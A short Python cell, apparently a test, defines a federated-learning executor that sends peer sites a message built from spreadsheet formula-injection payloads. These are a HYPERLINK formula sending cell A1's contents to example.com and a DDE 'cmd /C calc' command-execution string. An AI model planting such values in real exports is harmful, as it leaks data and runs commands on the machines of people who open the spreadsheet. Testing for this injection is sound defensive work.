# The message is a formula, for whoever opens the table in a spreadsheet.

# %% [execute]
class TalkingExecutor(Executor):
    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        others = sorted({"site-0", "site-1", "site-2"} - {fl_ctx.get_identity_name()})
        text = '=HYPERLINK("http://example.com/?" & A1, "click")\n+cmd|\' /C calc\'!A0\t@SUM(1)'
        hello = DXO(DataKind.APP_DEFINED, data={"message": text}).to_shareable()
        engine = fl_ctx.get_engine()
        engine.send_aux_request(targets=others, topic="hello", request=hello, timeout=5.0, fl_ctx=fl_ctx)
        return make_reply(ReturnCode.OK)
